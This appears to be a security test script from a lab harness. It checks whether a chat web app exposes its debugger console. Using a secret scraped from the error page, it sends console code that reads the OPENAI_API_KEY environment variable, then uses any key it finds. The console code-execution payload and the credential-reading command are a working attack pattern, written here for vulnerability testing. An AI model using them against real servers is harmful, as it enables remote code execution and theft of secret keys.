"""Opens the debugger's console and asks Python for the environment.

Anywhere: the console, the debugger's own files, and each address and broken request that may raise an error.
"""

import re
from urllib.parse import quote

from lab.alive import must_chat
from lab.client import target
from lab.thief import key_in, spend
from lab.verdict import failed, not_made, worked

PATHS = ["/console", "/?__debugger__=yes&cmd=resource&f=debugger.js", "/nothing-here", "/c/%00", "/admin/x", "/debug"]
BODIES = [b"", b"{", b"{}", b"[]", b'{"message": {}}', b'{"messages": 1}', b"[" * 5000]
SECRET = re.compile(r'SECRET = "(\w+)"')  # the page itself gives it to its script
CODE = "__import__('os').environ['OPENAI_API_KEY']"

app = target()
stranger = app.visitor()
answers = [stranger.get(path) for path in PATHS]
answers += [stranger.request("POST", stranger.chat_path, body) for body in BODIES]
for answer in answers:
    if secret := SECRET.search(answer.text):
        said = stranger.get(f"/console?__debugger__=yes&cmd={quote(CODE)}&frm=0&s={secret[1]}")
        if key := key_in(re.sub(r"<.*?>", "", said.text)):
            spend(key)
            worked("The console ran our code, which read the key. It would run any other, too.")
        worked("The debugger is there, though it asks for a PIN.")
if any("__debugger__" in answer.text for answer in answers):
    worked("The debugger's files are served.")
if not any(answer.status >= 400 for answer in answers):
    not_made("Nothing was refused.")
must_chat(app)
failed(f"No console, and {sum(answer.status >= 400 for answer in answers)} errors without a debugger.")
